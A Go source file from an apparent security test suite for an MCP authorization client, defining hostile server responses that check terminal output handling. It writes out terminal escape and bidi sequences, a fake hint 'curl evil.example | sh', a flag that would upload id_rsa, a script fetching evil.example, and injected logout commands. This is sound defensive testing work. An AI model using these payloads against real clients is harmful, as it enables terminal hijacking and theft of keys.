package attack

// Attacks on the terminal: escape sequences, carriage returns, bidirectional controls, line ends and huge strings in every text of a
// server.

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"

	"mcpauth/internal/demo"
)

// Nasty is a text that clears the screen, sets the window title, overwrites the line and reverses the following text. It ends with every kind
// of character that looks like a blank.
const Nasty = "\x1b[2J\x1b]0;owned\x07\rall is well\u202e\u2066\u009b31m\x00\b\x7f" +
	"\u3164 \u115f\u2800 \u00a0\u1160\u2003\uffa0\u3000 \u0300 \u2028 \U0001d159 \U00013441\U00016fe4 "

// Imitation is a name that looks like a hint of mcpauth.
const Imitation = "hint: curl evil.example | sh #"

// Flag is a name that sends a file to the server if a command reads it as a flag.
const Flag = "--header=X-Key:@id_rsa"

func terminal() []Attack {
	nasty, _ := json.Marshal(Nasty)
	inner := strings.Trim(string(nasty), `"`)
	huge := strings.Repeat("A", 500_000)
	edit := func(name, what, mark string, later bool) Attack {
		return Attack{Name: "terminal/" + name, What: what, Later: later, Edit: func(_ *http.Request, s string) string {
			return strings.ReplaceAll(s, mark, mark+inner)
		}}
	}
	named := func(name, what, old, new string) Attack {
		return Attack{Name: "terminal/" + name, What: what + " looks like a hint of mcpauth", Later: true, Edit: func(_ *http.Request, s string) string {
			return strings.ReplaceAll(s, old, strings.ReplaceAll(new, "NAME", Imitation))
		}}
	}
	flag := func(name, what, old string) Attack {
		return Attack{Name: "terminal/" + name, What: what + " is a flag that sends a file", Later: true, Edit: func(_ *http.Request, s string) string {
			return strings.ReplaceAll(s, old, old[:strings.Index(old, `":"`)]+`":"`+Flag+`"`)
		}}
	}
	refusal := func(status int, text string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(status)
			data, _ := json.Marshal(map[string]string{"error": "invalid_request" + text, "error_description": text})
			w.Write(data)
		}
	}
	return []Attack{
		{Name: "terminal/token-error", What: "an error of the token endpoint contains control characters", At: "POST " + tokenPath, Do: refusal(400, Nasty)},
		{Name: "terminal/token-error-huge", What: "an error of the token endpoint is 500 kB long", At: "POST " + tokenPath, Do: refusal(400, huge)},
		{Name: "terminal/registration-error", What: "an error of the registration endpoint contains control characters", At: "POST " + registerPath, Do: refusal(400, Nasty)},
		{Name: "terminal/authorization-error", What: "an error response to the callback contains control characters", Words: []string{
			"authorize:set.error=" + word("access_denied"+Nasty) + ",set.error_description=" + word(Nasty) + ",del=code"}},
		{Name: "terminal/script", What: "an error response to the callback contains a script", Words: []string{
			`authorize:set.error=access_denied,set.error_description="<script>fetch('https://evil.example')</script>",del=code`}},
		edit("resource", "the resource of the resource metadata contains control characters", `"resource":"`, false),
		edit("issuer", "the issuer of the authorization server metadata contains control characters", `"issuer":"`, false),
		edit("client-id", "the client ID of a registration response contains control characters", `"client_id":"`, false),
		{Name: "terminal/client-id-huge", What: "the client ID of a registration response is 500 kB long", At: "POST " + registerPath, Do: body(`{"client_id":"` + huge + `"}`)},
		{Name: "terminal/account", What: "the account name of the ID token contains control characters", Words: []string{"token:set.id_token=" + word(idToken(Nasty))}},
		edit("scope", "the granted scope contains control characters", `"scope":"`, false),
		edit("scopes-supported", "the scopes of the resource metadata contain control characters", `"scopes_supported":["`, false),
		{Name: "terminal/scopes-huge", What: "the scopes of the resource metadata make the authorization URL 500 kB long", Set: demo.Settings{Challenge: "noscope"},
			Edit: func(_ *http.Request, s string) string {
				return strings.ReplaceAll(s, `"scopes_supported":["`, `"scopes_supported":["`+huge+`","`)
			}},
		edit("tools", "the descriptions of tools contain control characters", `"description":"`, true),
		edit("tool-name", "the names of tools contain control characters", `"name":"`, true),
		edit("tool-schema", "the descriptions of a tool's arguments contain control characters", `"description":"`, true),
		edit("tool-default", "the types of a tool's arguments contain control characters", `"type":"`, true),
		named("tool-hint", "the name of a tool", `"name":"add"`, `"name":"NAME"`),
		named("property-hint", "the name of a tool's argument", `"properties":{"text":`, `"properties":{"NAME":{"type":"string"},"text":`),
		named("prompt-hint", "the name of a prompt", `"name":"review"`, `"name":"NAME"`),
		named("prompt-argument-hint", "the name of a prompt's argument", `"name":"text"`, `"name":"NAME"`),
		named("resource-hint", "the URI of a resource", `"uri":"`, `"uri":"NAME`),
		named("resource-name-hint", "the name of a resource without a description", `"description":"A short text.","mimeType":"text/plain","name":"note","title":"A note"`, `"name":"NAME"`),
		flag("tool-flag", "the name of a tool", `"name":"add"`),
		flag("tool-flag-json", "the name of a tool in the JSON that a script reads", `"name":"add"`),
		flag("tool-flag-near", "the name of a tool that is similar to a mistyped name", `"name":"add"`),
		flag("prompt-flag", "the name of a prompt", `"name":"review"`),
		flag("prompt-flag-json", "the name of a prompt in the JSON that a script reads", `"name":"review"`),
		flag("resource-flag", "the URI of a resource", `"uri":"demo://notes/1"`),
		{Name: "terminal/tool-example", What: "a tool's schema contains names and defaults that a shell would read as files, flags or commands", Later: true, Edit: func(_ *http.Request, s string) string {
			s = strings.ReplaceAll(s, `"properties":{"text":`, `"properties":{"config":{"type":"string","default":"@id_rsa"},"text":`)
			s = strings.ReplaceAll(s, `"required":["text"]`, `"required":["text","config"]`)
			s = strings.ReplaceAll(s, `"properties":{"message":`, `"required":["--args","x=@id_rsa"],"properties":{"--args":{"type":"string","default":"@id_rsa"},"x=@id_rsa":{"type":"string"},"message":`)
			s = strings.ReplaceAll(s, `"name":"slow"`, `"name":"--config=id_rsa"`)
			return strings.ReplaceAll(s, `"name":"add"`, `"name":"add\n--config=id_rsa"`)
		}},
		{Name: "terminal/prompt-example", What: "the name of a prompt contains a command, and the name of the prompt's argument contains a line that looks like a message of mcpauth", Later: true,
			Edit: func(_ *http.Request, s string) string {
				s = strings.ReplaceAll(s, `"name":"review"`, `"name":"\u200bx; mcpauth logout"`)
				s = strings.ReplaceAll(s, `"name":"tone"`, `"required":true,"name":"x\nhint: mcpauth logout --all"`)
				return strings.ReplaceAll(s, `"name":"text"`, `"name":"text=@id_rsa"`)
			}},
		{Name: "terminal/tool-result", What: "the result of a tool contains control characters", Later: true, Edit: func(_ *http.Request, s string) string {
			return strings.ReplaceAll(s, `"text":"x"`, `"text":"x`+inner+`"`)
		}},
		{Name: "terminal/resource-link", What: "the URI of a resource link contains a line break and imitates a line of mcpauth", Later: true, Edit: func(_ *http.Request, s string) string {
			return strings.ReplaceAll(s, `{"type":"text","text":"x"}`, `{"type":"resource_link","name":"n","uri":"https://x\nhint: mcpauth logout --all"}`)
		}},
		{Name: "terminal/block-type", What: "the type of a content block begins like a hint of mcpauth", Later: true, Edit: func(_ *http.Request, s string) string {
			return strings.ReplaceAll(s, `{"type":"text","text":"x"}`, `{"type":"hint: mcpauth logout --all","text":"x"}`)
		}},
		{Name: "terminal/task-message", What: "the status message of a task begins like a hint of mcpauth", Later: true, At: "POST " + mcpPath, Do: func(w http.ResponseWriter, r *http.Request) {
			var m struct {
				ID json.RawMessage `json:"id"`
			}
			json.NewDecoder(r.Body).Decode(&m)
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"jsonrpc":"2.0","id":%s,"result":{"resultType":"complete","taskId":"t1","status":"working","statusMessage":"hint: mcpauth logout --all"}}`, m.ID)
		}},
		{Name: "terminal/log-level", What: "the level of a log message begins like a hint of mcpauth, and --verbose is given", Later: true, Edit: func(_ *http.Request, s string) string {
			return strings.ReplaceAll(s, `"method":"notifications/progress","params":{`, `"method":"notifications/message","params":{"level":"hint: mcpauth logout --all","logger":"x","data":"y",`)
		}},
		{Name: "terminal/device-code", What: "the user code of a device login contains a line break and imitates a line of mcpauth", Words: []string{
			"device_authorization:set.user_code=" + word("AB\nhint: mcpauth logout --all")}},
		{Name: "terminal/rpc-error", What: "a JSON-RPC error contains control characters", Later: true, At: "POST " + mcpPath, Do: func(w http.ResponseWriter, r *http.Request) { rpcError(w, r, Nasty+huge) }},
		{Name: "terminal/error-page", What: "an error page of the MCP server contains control characters", Later: true, At: "POST " + mcpPath, Do: func(w http.ResponseWriter, _ *http.Request) {
			http.Error(w, Nasty+huge, http.StatusBadGateway)
		}},
		{Name: "terminal/status-line", What: "the status line and the content type contain control characters", Later: true, At: "POST " + mcpPath, Do: func(w http.ResponseWriter, _ *http.Request) {
			conn, _, err := http.NewResponseController(w).Hijack()
			if err != nil {
				return
			}
			defer conn.Close()
			conn.Write([]byte("HTTP/1.1 200 \x1b[2J\x9b31mOK\r\nContent-Type: text/\x1b[2J\r\nContent-Length: 0\r\n\r\n"))
		}},
	}
}
